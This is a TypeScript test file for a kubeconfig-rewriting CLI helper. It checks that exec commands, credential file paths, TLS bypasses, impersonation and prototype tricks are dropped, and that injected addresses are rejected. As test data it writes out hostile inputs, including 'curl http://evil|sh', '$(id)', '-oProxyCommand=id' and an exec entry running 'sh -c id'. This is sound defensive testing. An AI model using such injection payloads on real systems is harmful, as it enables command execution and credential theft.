import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { tunneledKubeconfig, writePrivateFile } from "@groundwork/cli/kpaas/kubeconfig";
import { parse } from "yaml";

const TEXT = `apiVersion: v1
clusters: [{name: cluster.local, cluster: {certificate-authority-data: Q0E=, server: "https://10.40.0.5:6443"}}]
users: [{name: kubernetes-admin, user: {client-key-data: c2VjcmV0}}]
`;

describe("the kubeconfig for use from outside", () => {
  test("connects through a tunnel, verifies the other end by name, and has the stack's name", () => {
    const { text, tunnel } = tunneledKubeconfig(TEXT, "lab-nhn", "192.168.7.10", 16_443);
    expect(tunnel).toBe("127.0.0.1:16443:192.168.7.10:6443");
    const server = { server: "https://127.0.0.1:16443", "tls-server-name": "kubernetes.default.svc" };
    expect(parse(text)).toEqual({
      apiVersion: "v1",
      kind: "Config",
      "current-context": "lab-nhn",
      clusters: [{ name: "lab-nhn", cluster: { "certificate-authority-data": "Q0E=", ...server } }],
      users: [{ name: "lab-nhn", user: { "client-key-data": "c2VjcmV0" } }],
      contexts: [{ name: "lab-nhn", context: { cluster: "lab-nhn", user: "lab-nhn" } }],
    });
  });

  test.each(["", "clusters: []", "users: [{client-key-data: c2VjcmV0", "- c2VjcmV0"])(
    "fails, without repeating it, for %j",
    (text) => {
      expect(() => tunneledKubeconfig(text, "lab-nhn", "192.168.7.10", 1)).toThrow(
        /check \/home\/ubuntu\/\.kube\/config$/,
      );
      expect(() => tunneledKubeconfig(text, "lab-nhn", "192.168.7.10", 1)).not.toThrow(/c2VjcmV0/);
    },
  );

  /** A kubeconfig with further fields of the cluster and the user. */
  const withFields = (cluster: object, user: object) =>
    JSON.stringify({
      clusters: [{ name: "c", cluster: { "certificate-authority-data": "Q0E=", ...cluster } }],
      users: [{ name: "u", user: { "client-certificate-data": "QQ==", "client-key-data": "Qg==", ...user } }],
      contexts: [{ name: "x", context: { namespace: "$(id)" } }],
      preferences: { colors: true },
    });
  const fieldsOf = (text: string) => {
    const config = parse(tunneledKubeconfig(text, "lab-nhn", "192.168.7.10", 1).text) as {
      readonly clusters: readonly { readonly cluster: object }[];
      readonly users: readonly { readonly user: object }[];
    };
    return [...config.clusters.map(({ cluster }) => cluster), ...config.users.map(({ user }) => user)].map(Object.keys);
  };
  const COPIED = [
    ["certificate-authority-data", "server", "tls-server-name"],
    ["client-certificate-data", "client-key-data"],
  ];

  test.each([
    { "insecure-skip-tls-verify": true },
    { "proxy-url": "http://192.0.2.1:3128" },
    { "tls-server-name": "evil.example" },
    { server: "https://192.0.2.1" },
    { "certificate-authority": "/etc/passwd" },
    { "disable-compression": true },
    { extensions: [{ name: "x", extension: { a: 1 } }] },
    { unknown: "x" },
  ])("copies nothing of the cluster's %j", (cluster) => {
    expect(fieldsOf(withFields(cluster, {}))).toEqual(COPIED);
    const { text } = tunneledKubeconfig(withFields(cluster, {}), "lab-nhn", "192.168.7.10", 1);
    expect(text).not.toMatch(/evil|192\.0\.2\.1|passwd|insecure/);
  });

  test.each([
    { exec: { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "id"] } },
    { "auth-provider": { name: "gcp", config: { "cmd-path": "sh" } } },
    { "client-key": "/home/a/.ssh/id_ed25519" },
    { "client-certificate": "/etc/passwd" },
    { tokenFile: "/etc/passwd" },
    { username: "a", password: "b" },
    { as: "system:admin", "as-groups": ["system:masters"], "as-user-extra": { a: ["b"] } },
    { unknown: "x" },
  ])("copies nothing of the user's %j", (user) => {
    expect(fieldsOf(withFields({}, user))).toEqual(COPIED);
  });

  test("copies a token", () => {
    expect(fieldsOf(withFields({}, { token: "abc.def-1" }))).toEqual([COPIED[0], [...(COPIED[1] ?? []), "token"]]);
  });

  test.each([
    { token: "a b" },
    { token: "a\nb" },
    { token: ["a"] },
    { "client-key-data": "not base64!" },
    { "client-certificate-data": { a: 1 } },
  ])("fails, without repeating it, for the credentials %j", (user) => {
    const attempt = () => tunneledKubeconfig(withFields({}, user), "lab-nhn", "192.168.7.10", 1);
    expect(attempt).toThrow(/in the machine's kubeconfig is invalid; check/);
    expect(attempt).not.toThrow(/base64!|a b/);
  });

  test("fails for files and programs in place of data", () => {
    const text = JSON.stringify({
      clusters: [{ cluster: { "certificate-authority": "/ca" } }],
      users: [{ user: { exec: { command: "id" } } }],
    });
    expect(() => tunneledKubeconfig(text, "lab-nhn", "192.168.7.10", 1)).toThrow(/no certificate authority or no/);
  });

  test("copies no field of a prototype or of an alias", () => {
    const text = `clusters: [{cluster: &c {certificate-authority-data: Q0E=, __proto__: {proxy-url: x}}}]
users: [{user: {<<: {exec: {command: id}}, token: t}}]
`;
    const result = tunneledKubeconfig(text, "lab-nhn", "192.168.7.10", 1).text;
    expect(result).not.toMatch(/exec|proxy-url/);
  });

  test.each(["127.0.0.1:1 evil; curl http://evil|sh", "$(id)", "-oProxyCommand=id", "a\u001b[2J", "", "10.0.0.256"])(
    "fails for the address %j, which would be part of a command",
    (address) => {
      expect(() => tunneledKubeconfig(TEXT, "lab-nhn", address, 1)).toThrow(
        /^MASTER1_ADDRESS in \/etc\/kpaas\/kpaas\.env is not an address: "[^\u001b]*"; nothing was written$/,
      );
    },
  );

  test("puts an IPv6 address into brackets", () => {
    expect(tunneledKubeconfig(TEXT, "lab-nhn", "2001:db8::7", 1).tunnel).toBe("127.0.0.1:1:[2001:db8::7]:6443");
  });

  test("is readable by its owner only, even if another file existed, and written atomically", () => {
    const directory = mkdtempSync(join(tmpdir(), "groundwork-kubeconfig-"));
    const file = join(directory, "deep", "config");
    writePrivateFile(file, "one");
    writeFileSync(file, "open", { mode: 0o644 });
    writePrivateFile(file, "two");
    expect(readFileSync(file, "utf8")).toBe("two");
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(() => {
      writePrivateFile(join(directory, "deep"), "three");
    }).toThrow();
    expect(readdirSync(directory)).toEqual(["deep"]);
    rmSync(directory, { recursive: true });
  });
});
